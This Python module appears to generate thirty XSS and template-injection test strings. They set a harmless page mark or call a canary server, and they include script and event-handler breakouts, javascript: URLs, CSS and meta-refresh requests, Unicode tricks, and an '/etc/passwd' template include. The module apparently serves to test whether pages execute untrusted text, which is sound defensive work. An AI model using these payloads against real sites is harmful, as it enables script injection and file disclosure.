"""Thirty texts that try to act in a page: to set a mark, or to ask a canary server."""

MARK = "document.documentElement.dataset.acted=1"


def payloads(canary: str) -> list[str]:
    """The texts.

    Args:
        canary: address of a server that counts requests, without a slash at the end.
    """
    act = f"{MARK};fetch('{canary}/fetch')"
    return [
        f"<script>{act}</script>",
        f"</script><script>{act}</script>",
        f'"}}]}}</script><img src=x onerror="{act}">',
        f'"><img src="{canary}/attribute" onerror="{act}">',
        f"' onmouseover='{act}' autofocus onfocus='{act}",
        f"</title></style></textarea><svg onload={act}>",
        f"<svg><script>{act}</script></svg>",
        f"<svg><animate onbegin={act} attributeName=x dur=1s>",
        f'<a href="javascript:{act}" id=controls>click</a>',
        f"javascript:{act}",
        f"&lt;script&gt;{act}&lt;/script&gt;",
        f"&#60;script&#62;{act}&#60;/script&#62;",
        f"{{{{ 7 * 7 }}}}{{% include '/etc/passwd' %}}${{{MARK}}}<% {act} %>",
        f"<!--<script>{act}",
        f"--><script>{act}</script><!--",
        f"]]><script>{act}</script>",
        f"<base href={canary}/base/>",
        f'<meta http-equiv=refresh content="0;url={canary}/refresh">',
        f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
        f"<iframe src={canary}/frame></iframe><object data={canary}/object></object>",
        f"<link rel=stylesheet href={canary}/style><style>@import '{canary}/import';</style>",
        f"}}body{{background:url({canary}/css)}}</style><style>*{{color:red}}",
        f"<form action={canary}/form><input name=words autofocus onfocus={act}><button id=more>",
        f"<video src={canary}/video onerror={act}><audio src=x onerror={act}>",
        f"<details open ontoggle={act}><marquee onstart={act}>",
        f"\u2028\u2029{act}\u2028//",
        f"\u202e<script>{act}</script>\u202c\u2066\ufeff",
        f"\x00<scr\x00ipt>{act}</scr\x00ipt>\x1b[2J",
        "__proto__\\u003cscript\\u003e\\x3cscript\\x3e'\"`\\",
        f"<script>{act}</script>" * 2000,
    ]
